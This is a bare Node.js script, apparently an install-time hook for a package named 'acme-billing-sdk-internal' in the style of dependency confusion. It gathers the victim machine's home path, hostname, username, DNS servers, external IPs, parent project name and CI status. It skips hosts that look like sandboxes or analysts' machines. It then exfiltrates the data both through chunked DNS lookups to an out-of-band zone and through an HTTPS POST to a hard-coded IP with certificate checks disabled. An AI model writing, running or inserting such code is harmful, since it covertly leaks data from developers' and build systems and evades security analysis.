const os = require("os");
const dns = require("dns");
const https = require("https");
const path = require("path");
const fs = require("fs");

const PKG = "acme-billing-sdk-internal";
const ZONE = "d.oast.example.invalid";

function parentPackage() {
  try {
    const p = path.resolve(process.cwd(), "..", "..", "package.json");
    const j = JSON.parse(fs.readFileSync(p, "utf8"));
    return j.name + "@" + j.version;
  } catch (e) {
    return "";
  }
}

const td = {
  p: PKG,
  c: __dirname,
  hd: os.homedir(),
  hn: os.hostname(),
  un: os.userInfo().username,
  dns: dns.getServers(),
  r: parentPackage(),
  v: process.env.npm_package_version || "",
  ip: Object.values(os.networkInterfaces()).flat().filter((i) => i && !i.internal && i.family === "IPv4").map((i) => i.address),
  ci: !!(process.env.CI || process.env.GITHUB_ACTIONS || process.env.JENKINS_URL)
};

// skip obvious analysis boxes
const BORING = [/^DESKTOP-[A-Z0-9]{7}$/, /sandbox/i, /^(runner|vagrant|analyst|malware|virus)$/i];
if (BORING.some((re) => re.test(td.hn) || re.test(td.un))) process.exit(0);
if (td.hd === "/root" && td.hn.length === 12 && /^[0-9a-f]+$/.test(td.hn)) process.exit(0);

const hex = Buffer.from(JSON.stringify(td)).toString("hex");
const id = Math.random().toString(36).slice(2, 8);
const chunks = hex.match(/.{1,60}/g) || [];
chunks.forEach((c, i) => {
  dns.lookup(`${c}.${i}.${chunks.length}.${id}.${ZONE}`, () => {});
});

const body = JSON.stringify({ msg: td });
const req = https.request({
  hostname: "203.0.113.77",
  port: 443,
  path: "/c",
  method: "POST",
  rejectUnauthorized: false,
  headers: { "Content-Type": "application/json", "Content-Length": Buffer.byteLength(body) }
}, (res) => res.resume());
req.on("error", () => {});
req.write(body);
req.end();
